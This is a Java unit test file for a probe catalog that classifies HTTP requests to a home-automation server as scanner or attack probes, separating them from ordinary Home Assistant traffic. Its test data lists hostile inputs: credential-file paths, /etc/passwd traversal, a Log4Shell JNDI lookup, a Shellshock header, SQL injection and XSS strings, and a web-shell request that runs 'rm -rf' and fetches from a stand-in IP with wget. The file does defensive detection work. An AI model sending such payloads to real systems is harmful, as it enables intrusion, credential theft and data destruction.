package dev.portcullis.rules.signal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProbeCatalogTest {

    private static final String BROWSER =
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";

    private final ProbeCatalog catalog = ProbeCatalog.standard();

    @ParameterizedTest
    @CsvSource(
            delimiter = ' ',
            value = {
                "scripts /index.php",
                "scripts /a/INDEX.PHP?x=1",
                "scripts /default.asp",
                "scripts /x/login.aspx;jsessionid=1",
                "scripts /login.action",
                "scripts /index.php/admin/settings",
                "scripts /cgi-bin/test",
                "scripts /cgi-bin",
                "scripts /%69ndex%2ephp",
                "scripts /%2569ndex%252ephp",
                "secrets /.env",
                "secrets /api/.env.production",
                "secrets /.git/HEAD",
                "secrets /.git/config",
                "secrets /.svn/entries",
                "secrets /.aws/credentials",
                "secrets /.ssh/id_rsa",
                "secrets /.htpasswd",
                "secrets /.docker/config.json",
                "secrets /.vscode/sftp.json",
                "secrets /composer.lock",
                "secrets /dump.sql",
                "secrets /backup/db.sql.gz",
                "secrets /config.bak",
                "secrets /debug.log",
                "secrets /config/secrets.yaml",
                "secrets /local/.env",
                "admin /wp-login.php",
                "admin /blog/wp-admin/install.php",
                "admin /xmlrpc.php",
                "admin /phpMyAdmin/index.php",
                "admin /pma/",
                "admin /manager/html",
                "admin /solr/admin/info/system",
                "admin /phpinfo.php",
                "appliance /boaform/admin/formLogin",
                "appliance /HNAP1",
                "appliance /setup.cgi?todo=syscmd",
                "appliance /global-protect/login.esp",
                "appliance /dana-na/auth/url_default/welcome.cgi",
                "appliance /+CSCOE+/logon.html",
                "appliance /remote/login",
                "appliance /owa/auth/logon.aspx",
                "appliance /_layouts/15/ToolPane.aspx",
                "appliance /hedwig.cgi",
                "appliance /cgi-bin/rpc2_login",
                "appliance /goform/set_LimitClient_cfg",
                "appliance /api/v2.0/cmdb/system/admin",
                "appliance /_ignition/execute-solution",
                "appliance /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "appliance /actuator/env",
                "traversal /../../etc/passwd",
                "traversal /..%2f..%2fx",
                "traversal /%252e%252e%252fx",
                "traversal /..;/manager",
                "traversal /x?file=/etc/passwd%00",
                "traversal /x?u=file:///etc/hosts",
                "traversal /x?p=php://input",
                "traversal /%c0%ae%c0%ae/x",
                "injection /?x=${jndi:ldap://198.51.100.7/a}",
                "injection /%24%7Bjndi%3Aldap%3A//198.51.100.7/a%7D",
                "sqli /?id=1+UNION+SELECT+1",
                "sqli /?id=1%20union%20select%201",
                "sqli /?id=sleep(5)",
                "sqli /?q=xp_cmdshell",
                "xss /?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "shells /c99.php",
                "shells /uploads/wso.php",
                "shells /alfa.php",
                "shells /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x",
                "onboarding /api/onboarding/users",
                "hassio /api/hassio/backups/new/upload",
                "hassio /api/hassio",
                "hassio /api/hassio_auth",
                "hassio /api/hassio/addons/self/info",
                "discovery /api/discovery_info",
            })
    void belongs_to_the_family(String family, String target) {
        assertThat(families("GET", target, BROWSER)).contains(family);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sqlmap/1.8#stable (https://sqlmap.org)",
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
                "Mozilla/5.0 zgrab/0.x",
                "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "masscan/1.3",
                "Mozilla/5.0 (l9explore)",
                "gobuster/3.6",
            })
    void a_scanner_that_says_so_is_one(String agent) {
        assertThat(families("GET", "/", agent)).containsExactly("scanner");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "curl/8.14.1",
                "Wget/1.25",
                "python-requests/2.32.5",
                "Python/3.13 aiohttp/3.13",
                "okhttp/4.12.0",
                "Go-http-client/2.0",
                "Java/25",
                "Home Assistant/2026.11.1-18011 (Android 16; Pixel 9)",
                "HomeAssistant/2026.11 (io.robbie.HomeAssistant; build:2026.1; iOS 26.1.0) Alamofire/5.10",
                "Node-RED/4.1",
                "ESP8266HTTPClient",
                "Mozilla/5.0 (Linux; Android 16; SM-S938B; wv) Chrome/142.0 Mobile Home Assistant/2026.11",
                "IFTTT-Protocol/v1",
                "Shelly/20250924-062729",
            })
    void tools_of_a_household_are_no_scanners(String agent) {
        assertThat(families("POST", "/api/webhook/doorbell-8c1f04", agent)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/?homescreen=1",
                "/?auth_callback=1&code=0f9c8d7e6b5a4f3e2d1c0b9a8f7e6d5c&state=eyJoYXNzVXJsIjoiaHR0cHM6Ly9ob21lIn0%3D",
                "/lovelace/default_view",
                "/lovelace-k%C3%BCche/wohnzimmer?kiosk",
                "/wp-heizung/0",
                "/server-status/0",
                "/admin",
                "/admin-panel/0",
                "/remote-control/0",
                "/config/integrations/dashboard",
                "/config/automation/edit/1700000000000",
                "/config/script/edit/wp_admin",
                "/config/logs?filter=union",
                "/config/backup",
                "/history?entity_id=sensor.temp%2Csensor.hum&start_date=2026-11-23T07%3A00%3A00.000Z",
                "/logbook?entity_id=script.do",
                "/energy",
                "/map",
                "/todo?entity_id=todo.shopping_list",
                "/calendar",
                "/media-browser/browser/app%2Cmedia-source%3A%2F%2Fmedia_source%2Flocal%2F.old",
                "/profile/general",
                "/developer-tools/state",
                "/developer-tools/yaml",
                "/hassio/ingress/a0d7b954_phpmyadmin",
                "/a0d7b954_phpmyadmin",
                "/core_ssh",
                "/_my_redirect/blueprint_import?blueprint_url=https%3A%2F%2Fgithub.com%2Fx%2Fy.yaml",
                "/static/icons/favicon-192x192.png",
                "/static/fonts/roboto/Roboto-Regular.woff2",
                "/static/translations/de-3b6d1e7c2f48d0a1b59e8c7d6f5a4b3c.json",
                "/frontend_latest/app.Xk2_v-9Q.js",
                "/frontend_latest/12345.b1c2d3e4f5a60718.js.map",
                "/frontend_es5/custom-panel.0a1b2c3d.js",
                "/service_worker.js",
                "/sw-modern.js",
                "/manifest.json",
                "/robots.txt",
                "/favicon.ico",
                "/apple-touch-icon-precomposed.png",
                "/onboarding.html",
                "/hacsfiles/button-card/button-card.js?hacstag=146194325452",
                "/hacsfiles/iconset.js",
                "/local/floorplan/eg.svg",
                "/local/community/mini-graph-card/mini-graph-card-bundle.js?v=0.12.1",
                "/local/100%25.png",
                "/local/${state}.png",
                "/auth/authorize?response_type=code&redirect_uri=https%3A%2F%2Fhome.example.org%2F%3Fauth_callback%3D1&client_id=https%3A%2F%2Fhome.example.org%2F&state=abc",
                "/auth/authorize?response_type=code&client_id=https://home-assistant.io/android&redirect_uri=homeassistant://auth-callback",
                "/auth/authorize?client_id=https%3A%2F%2Foauth-redirect.googleusercontent.com%2Fr%2Fhome&redirect_uri=https%3A%2F%2Foauth-redirect.googleusercontent.com%2Fr%2Fhome&state=a&scope=email+name&response_type=code",
                "/auth/providers",
                "/auth/login_flow",
                "/auth/login_flow/9e107d9d372bb6826bd81d3542a419d6",
                "/auth/token",
                "/auth/revoke",
                "/auth/link_user",
                "/auth/external/callback?state=eyJhbGciOiJIUzI1NiJ9.eyJmIjoiMSJ9.s-ig_N&code=4%2F0AX4XfWh",
                "/.well-known/oauth-authorization-server",
                "/.well-known/change-password",
                "/.well-known/acme-challenge/abc_-def",
                "/api/",
                "/api/websocket",
                "/api/webhook/3f2504e0-4f89-41d3-9a0c-0305e82c3301",
                "/api/webhook/shell.php?battery=93&name=Front%20door",
                "/api/google_assistant",
                "/api/alexa",
                "/api/alexa/smart_home",
                "/api/alexa/flash_briefings/news?password=p%26ss%2Fw%2500rd",
                "/api/telegram_webhooks",
                "/api/foursquare",
                "/api/meraki",
                "/api/konnected/device/a1",
                "/api/doorbird/front?token=a",
                "/api/notify.html5/callback",
                "/api/plex/callback",
                "/api/shelly/ws",
                "/description.xml",
                "/api/0123456789abcdef/lights",
                "/api/camera_proxy/camera.env?token=8f14e45fceea167a5a36dedd4bea2543",
                "/api/camera_proxy_stream/camera.front_door?token=8f14e45fceea167a5a36dedd4bea2543&interval=0.5",
                "/api/image_proxy/image.map?token=abc&state=2026-11-23T07:50:54.526929+00:00",
                "/api/media_player_proxy/media_player.kodi/browse_media/music/file%3A%2F%2F%2Fmedia%2Fmusic?token=a",
                "/api/hls/5d41402abc4b2a76b9719d911017c592/master_playlist.m3u8",
                "/api/hls/5d41402abc4b2a76b9719d911017c592/segment/12.3.m4s",
                "/api/tts_proxy/dae2cdcb27a1d1c3b07ba2c7db91480f9d4bfd8f_de_-_tts.cloud.mp3",
                "/api/image/serve/3b9f2c1d/512x512",
                "/api/generic/preview_flow_image/abc",
                "/api/hassio/app/entrypoint.js",
                "/api/hassio/addons/core_mosquitto/logo",
                "/api/hassio/addons/a0d7b954_phpmyadmin/icon",
                "/api/hassio/store/addons/core_mosquitto/icon",
                "/api/hassio_ingress/h3Zs8-Vb_9Qk/index.php?route=/sql&q=union+select",
                "/api/hassio_ingress/h3Zs8-Vb_9Qk/../.env",
                "/api/person/list",
                "/media/local/M%C3%BCnchen/backup.sql?authSig=eyJhbGciOiJIUzI1NiJ9.e30.abc",
                "/api/mobile_app/registrations",
                "/api/config",
                "/api/config/config_entries/flow/8a7b6c5d",
                "/api/config/automation/config/1700000000000",
                "/api/states",
                "/api/states/script.do",
                "/api/states/sensor.env",
                "/api/states/input_boolean.action",
                "/api/services/script/turn_on",
                "/api/services/notify/mobile_app.action",
                "/api/events/ios.action",
                "/api/template",
                "/api/history/period/2026-11-23T07:00:00+01:00?filter_entity_id=sensor.a,sensor.b&minimal_response",
                "/api/logbook/2026-11-23T00:00:00.000Z?entity=script.do",
                "/api/error_log",
                "/api/stream?restrict=state_changed",
                "/api/calendars/calendar.family?start=2026-11-01T00:00:00Z&end=2026-12-01T00:00:00Z",
                "/api/backup/download/8f3e2b1a?agent_id=hassio.local",
                "/api/file_upload",
                "/api/image/upload",
                "/api/diagnostics/config_entry/0123456789abcdef",
                "/api/core/state",
                "/api/mcp",
                "/api/brands/integration/mqtt/icon.png?token=ab",
            })
    void nothing_that_a_household_does_belongs_to_a_family(String target) {
        for (String method : List.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS")) {
            assertThat(families(method, target, BROWSER)).isEmpty();
        }
    }

    @Test
    void methods_count_and_so_does_the_form_of_the_target() {
        assertThat(families("CONNECT", "home.example.org:443", "")).containsExactly("open-proxy");
        assertThat(families("TRACE", "/", "")).containsExactly("odd-method");
        assertThat(families("PROPFIND", "/", "")).containsExactly("odd-method");
        assertThat(families("FROB", "/", "")).containsExactly("odd-method");
        assertThat(families("OPTIONS", "*", "")).isEmpty();
        assertThat(families("", "", "")).isEmpty();
        assertThat(families("GET", "http://198.51.100.7/.env", "")).containsExactly("secrets");
        assertThat(families("PROPFIND", "/api/hassio_ingress/abc/dav/", "")).isEmpty();
    }

    @Test
    void fields_that_scanners_fill_are_looked_at() {
        assertThat(catalog.families("GET", "/", "", Map.of("x-api-version", "${JNDI:ldap://x}")::get))
                .containsExactly("injection");
        assertThat(catalog.families("GET", "/", "", Map.of("referer", "() { :;}; /bin/id")::get))
                .containsExactly("injection");
        assertThat(families("GET", "/", "() { ignored; }; echo")).containsExactly("injection");
        assertThat(catalog.families("GET", "/", "", Map.of("referer", "https://x/?q=union select")::get))
                .isEmpty();
    }

    @Test
    void only_the_first_and_last_32_segments_are_looked_at() {
        String many = "/a".repeat(40);
        assertThat(families("GET", "/x.sql.gz/.env" + many + many, "")).containsExactly("secrets");
        assertThat(families("GET", many + many + "/x.php;a/.env.local", "")).containsExactly("secrets", "scripts");
        assertThat(families("GET", many + "/.env" + many, "")).isEmpty();
        ProbeRequest longest = ProbeRequest.of(
                "GET", "/;".repeat(2_000) + "/a".repeat(2_090), "", _ -> null, new ProbePlaces(List.of(), List.of()));
        assertThat(longest.segments()).hasSize(64);
        ProbeRequest shorter =
                ProbeRequest.of("GET", "/a/b;c//d.e/", "", _ -> null, new ProbePlaces(List.of(), List.of()));
        assertThat(shorter.segments()).containsExactlyInAnyOrder("a", "b", "d.e");
    }

    @Test
    void a_suffix_may_have_any_number_of_dots_or_none() {
        ProbeCatalog own = ProbeCatalog.parse("family a weight 1\nsuffix .x .x.y .x.y.z ~");
        for (String target : List.of("/a.x", "/.x/b", "/a.x.y", "/a.b.x.y.z", "/a~")) {
            assertThat(own.families("GET", target, "", _ -> null)).as(target).containsExactly("a");
        }
        for (String target : List.of("/ax", "/a.y", "/x.y", "/.x.y.", "/~a")) {
            assertThat(own.families("GET", target, "", _ -> null)).as(target).isEmpty();
        }
    }

    @Test
    void a_long_target_is_no_way_out_and_no_burden() {
        assertThat(families("GET", "/" + "%25".repeat(40_000) + "/.env", "")).isEmpty();
        assertThat(families("GET", "/.env?" + "a".repeat(100_000), "x".repeat(100_000)))
                .containsExactly("secrets");
    }

    @Test
    void families_come_weightiest_first() {
        assertThat(families("PROPFIND", "/wp-admin/.git/config?q=union+select", "sqlmap"))
                .containsExactly("secrets", "admin", "scanner", "sqli", "odd-method");
    }

    private List<String> families(String method, String target, String agent) {
        return catalog.families(method, target, agent, name -> null);
    }
}
